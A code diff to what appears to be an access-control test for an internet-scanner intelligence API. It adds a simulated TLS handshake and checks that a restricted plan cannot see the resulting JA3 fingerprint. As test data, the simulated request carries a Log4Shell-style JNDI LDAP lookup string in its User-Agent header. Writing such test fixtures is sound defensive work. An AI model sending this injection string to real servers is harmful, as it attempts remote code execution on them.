@@ -4,7 +4,10 @@ import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { entitlementIds } from '#model/entitlements.ts'
 import { fieldGroups, restrictedPaths } from '#model/ip-document/groups.ts'
+import { alert, clientHello, hellos } from '#demo/speak/tls.ts'
 import { captureOf, eventually, webVisit } from '../product/captures.ts'
+import type { Exchange } from '#demo/exchange.ts'
+import { syn } from '#demo/speak/syn.ts'
 import { openInside, type Inside } from '../product/inside.ts'
 
 /** What a plan without the groups of fields gets to know of an address: from every call, page and file, and with a key all of it. */
@@ -15,6 +18,8 @@ const folder = mkdtempSync(join(tmpdir(), 'noisefloor-groups-'))
 const ip = '198.18.7.9'
 /** Stands in what was requested and nowhere else; the same request tries a CVE. */
 const secret = 'zq7secretzq7'
+/** JA3 of its TLS client, as its own record tells it. */
+let ja3 = ''
 
 beforeAll(async () => {
   const PLANS_FILE = join(folder, 'plans.json')
@@ -26,17 +31,37 @@ beforeAll(async () => {
   const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
   key = (await deps.installation.keys.create({ workspace: workspace.id, role: 'operator', now })).secret
   const userAgent = `\${jndi:ldap://${secret}/a}`
-  const visits = [webVisit(ip, { uri: `/${secret}?a=%2e`, userAgent }, now - 60_000)]
+  const visit = webVisit(ip, { uri: `/${secret}?a=%2e`, userAgent }, now - 60_000)
+  const greeted: Exchange = {
+    ...visit,
+    at: now - 50_000,
+    sourcePort: visit.sourcePort + 1,
+    destinationPort: 443,
+    play: {
+      kind: 'tcp',
+      outcome: 'open',
+      syn: syn.linux,
+      turns: [
+        { from: 'source', bytes: clientHello(hellos.go, new Uint8Array(32).fill(7)) },
+        { from: 'destination', bytes: alert },
+      ],
+    },
+  }
   const { status } = await ask('/api/ingest/captures', key, {
     method: 'POST',
-    body: new Uint8Array(captureOf(visits)),
+    body: new Uint8Array(captureOf([visit, greeted])),
   })
   expect(status).toBe(200)
   await deps.drained()
   await eventually(
     async () => (await ask(`/v3/gnql?query=${query}`, key)).text(),
-    (text) => text.includes(secret),
+    (text) => text.includes(secret) && text.includes('"fingerprint"'),
   )
+  const { data } = (await (await ask(`/v3/gnql?query=${query}`, key)).json()) as {
+    data: { internet_scanner_intelligence: { raw_data: { ja3: { fingerprint: string }[] } } }[]
+  }
+  ja3 = data[0]?.internet_scanner_intelligence.raw_data.ja3[0]?.fingerprint ?? ''
+  expect(ja3).toMatch(/^[0-9a-f]{32}$/)
 })
 afterAll(async () => {
   await inside.close()
@@ -94,9 +119,9 @@ describe('a plan without the groups of fields', () => {
     async ({ path, init }) => {
       const texts = [await ask(path, '', init), await ask(path, key, init)].map((answered) => answered.text())
       const [without = '', whole = ''] = await Promise.all(texts)
-      expect([without, whole].map((text) => [text.includes(ip), text.includes(secret)])).toEqual([
-        [true, false],
-        [true, true],
+      expect([without, whole].map((text) => [ip, secret, ja3].map((value) => text.includes(value)))).toEqual([
+        [true, false, false],
+        [true, true, true],
       ])
     },
   )
